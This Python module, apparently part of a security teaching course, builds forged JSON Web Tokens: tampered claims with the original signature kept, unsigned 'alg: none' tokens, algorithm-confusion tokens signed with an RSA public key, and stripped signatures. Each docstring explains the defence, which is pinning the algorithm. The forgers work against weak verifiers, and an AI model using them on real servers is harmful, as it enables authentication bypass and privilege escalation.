"""Forged JSON Web Tokens: what an attacker sends to a server that trusts a token too easily.

Introduced in 08-auth, where the notebook and its checkers attack JWT verification with them: a
server that verifies tokens with ``jwt.decode(token, key, algorithms=["HS256"])`` (or, for tokens
signed with an RSA key, ``algorithms=["RS256"]`` and the public key) rejects them all.
"""

import base64
import hashlib
import hmac
import json
from typing import Any

__all__ = ["forge_tampered", "forge_alg_none", "forge_alg_confusion", "forge_signature_stripped"]


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _b64url_json(part: str) -> dict[str, Any]:
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except ValueError:  # binascii.Error, UnicodeDecodeError and JSONDecodeError are ValueErrors
        value = None
    if not isinstance(value, dict):
        raise ValueError("the token's payload is not a base64url-encoded JSON object")
    return value


def forge_tampered(token: str, **claims: Any) -> str:
    """Return `token` with `claims` changed in its payload and the original signature kept.

    What an attacker does with a token they hold: ``forge_tampered(user_token, role="admin")``.
    A server that verifies the signature rejects it. Introduced in 08-auth.
    """
    if not isinstance(token, str) or token.count(".") != 2:
        raise ValueError("forge_tampered() needs a JWT: three base64url parts separated by dots")
    header, payload, signature = token.split(".")
    changed = {**_b64url_json(payload), **claims}
    return f"{header}.{_b64url(json.dumps(changed).encode())}.{signature}"


def forge_alg_none(claims: dict[str, Any]) -> str:
    """Return an unsigned JWT (``"alg": "none"``, empty signature) carrying `claims`.

    A server that trusts the token's own header instead of a fixed list of algorithms would
    accept it. Introduced in 08-auth.
    """
    if not isinstance(claims, dict):
        raise ValueError("forge_alg_none() needs the claims as a dict, e.g. {'sub': 'eve', 'role': 'admin'}")
    header = _b64url(json.dumps({"alg": "none", "typ": "JWT"}).encode())
    return f"{header}.{_b64url(json.dumps(claims).encode())}."


def forge_alg_confusion(claims: dict[str, Any], public_key_pem: bytes) -> str:
    """Return an HS256 JWT carrying `claims`, "signed" with an RSA *public* key as the HMAC secret.

    The algorithm-confusion attack on a server whose tokens are RS256: a verifier that takes the
    algorithm from the token's header and calls one ``verify(token, key)`` with its configured
    key computes ``HMAC-SHA256(public key PEM, header.payload)`` and accepts the forgery. The
    public key is public (a JWKS endpoint publishes it). Pinning ``algorithms=["RS256"]`` stops
    it; PyJWT also refuses a PEM public key as an HMAC secret (``InvalidKeyError``), which is why
    this is built by hand. Introduced in 08-auth.
    """
    if not isinstance(claims, dict):
        raise ValueError("forge_alg_confusion() needs the claims as a dict, e.g. {'sub': 'eve', 'role': 'admin'}")
    if not isinstance(public_key_pem, bytes) or b"PUBLIC KEY-----" not in public_key_pem:
        raise ValueError("forge_alg_confusion() needs the public key as PEM bytes (-----BEGIN PUBLIC KEY-----...)")
    header = _b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    signing_input = f"{header}.{_b64url(json.dumps(claims).encode())}"
    signature = hmac.new(public_key_pem, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{_b64url(signature)}"


def forge_signature_stripped(token: str) -> str:
    """Return `token` with its signature removed (``header.payload.``), its header unchanged.

    For a verifier written by hand that checks a signature only when there is one
    (``if signature and signature != expected``). A server that verifies with
    ``jwt.decode(token, key, algorithms=["HS256"])`` rejects it. Introduced in 08-auth.
    """
    if not isinstance(token, str) or token.count(".") != 2:
        raise ValueError("forge_signature_stripped() needs a JWT: three base64url parts separated by dots")
    header, payload, _ = token.split(".")
    return f"{header}.{payload}."
